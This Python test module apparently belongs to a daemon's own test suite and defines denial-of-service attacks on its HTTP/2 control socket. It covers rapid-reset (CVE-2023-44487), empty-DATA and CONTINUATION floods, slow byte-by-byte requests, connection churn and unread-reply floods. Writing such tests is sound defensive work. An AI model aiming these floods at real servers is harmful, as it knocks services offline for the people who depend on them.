"""Attacks on the control socket."""

import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from itertools import islice, repeat

from tests.attacks.aim import Aim
from tests.attacks.frames import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_STREAM,
    PREFACE,
    RESET,
    WINDOW,
    begin,
    call,
    frame,
    message,
    streams,
)

CONTROL = "control"
_MANY = 100  # frames in one piece
_CONCURRENT = 100  # streams of one connection
_LONGEST = 63_000  # bytes of a request: less than the daemon refuses

_EVENTS = b"\x08\x01\x10\x80\x02"  # EventsRequest: follow, and begin with the newest 256


def frames(kind: int, payload: bytes = b"") -> Callable[[Aim], None]:
    """Return an attack: one frame of the connection over and over."""
    return lambda aim: aim.flood(CONTROL, lambda: _repeated(b"", frame(kind, 0, 0, payload)))


def _repeated(first: bytes, piece: bytes) -> Iterator[bytes]:
    yield PREFACE + first
    yield from repeat(piece * _MANY)


def _resets(pause: float = 0.0) -> Iterator[bytes]:
    yield PREFACE
    for stream in streams():
        yield begin(stream, "Status") + frame(RESET, 0, stream, CANCEL)
        time.sleep(pause)


def reset(aim: Aim) -> None:
    """Begin calls and cancel them at once (CVE-2023-44487)."""
    aim.flood(CONTROL, _resets)


def patient(aim: Aim) -> None:
    """Do the same at the rate that the daemon allows, so that it refuses nothing."""
    aim.flood(CONTROL, lambda: _resets(pause=0.004))


def empty_data(aim: Aim) -> None:
    """Send DATA frames without data on an open stream (CVE-2019-9518)."""
    aim.flood(CONTROL, lambda: _repeated(begin(1, "Status"), frame(DATA, 0, 1)))


def continuation(aim: Aim) -> None:
    """Send headers that never end (CVE-2024-27316)."""
    first = begin(1, "Status", ends=False)
    aim.flood(CONTROL, lambda: _repeated(first, frame(CONTINUATION, 0, 1)))


def connects(aim: Aim) -> None:
    """Connect and hang up."""
    while aim.going_on():
        with suppress(OSError):
            aim.connect(CONTROL).close()


def names(aim: Aim) -> None:
    """Name one endpoint nine thousand times in a request for its status."""
    text = message((b"\x0a\x05quiet" * _LONGEST)[: _LONGEST // 7 * 7])
    parts = [text[at : at + 16_000] for at in range(0, len(text), 16_000)]

    def talk() -> Iterator[bytes]:
        yield PREFACE
        for stream in streams():
            yield begin(stream, "Status")
            for part in parts:
                yield frame(DATA, END_STREAM * (part is parts[-1]), stream, part)

    aim.flood(CONTROL, talk)


def _calls(method: str, window: int) -> Iterator[bytes]:
    yield PREFACE
    for stream in streams():
        yield call(stream, method)
        yield frame(WINDOW, 0, 0, window.to_bytes(4, "big"))


def statuses(aim: Aim) -> None:
    """Ask for the status, and read the replies."""
    aim.flood(CONTROL, lambda: _calls("Status", 1 << 14))


def unread(aim: Aim) -> None:
    """Ask for the status, allow the daemon to send all replies, and read none."""
    aim.flood(CONTROL, lambda: _calls("Status", 1 << 14), reads=False)


def peers(aim: Aim) -> None:
    """Keep a thousand connections to an endpoint, and ask for the list of them."""
    with ExitStack() as kept:
        with suppress(OSError):
            for _ in range(1000):
                kept.enter_context(aim.connect("stream"))
        aim.flood(CONTROL, lambda: _calls("Peers", 1 << 18))


def slow(aim: Aim) -> None:
    """Send a hundred requests at a time, byte by byte."""

    def talk() -> Iterator[bytes]:
        yield PREFACE
        for stream in islice(streams(), _CONCURRENT):
            yield begin(stream, "Status")
        while True:
            for stream in islice(streams(), _CONCURRENT):
                yield frame(DATA, 0, stream, b"\0")
                time.sleep(0.001)

    aim.flood(CONTROL, talk)


def subscribers(aim: Aim) -> None:
    """Subscribe to events a hundred times on each connection, and read none."""

    def talk() -> Iterator[bytes]:
        yield PREFACE
        for stream in islice(streams(), _CONCURRENT):
            yield call(stream, "Events", _EVENTS)

    aim.flood(CONTROL, talk, reads=False)


def places(aim: Aim) -> None:
    """Keep connections open, with a request that has only begun."""
    aim.flood(CONTROL, lambda: iter([PREFACE, begin(1, "Status")]))
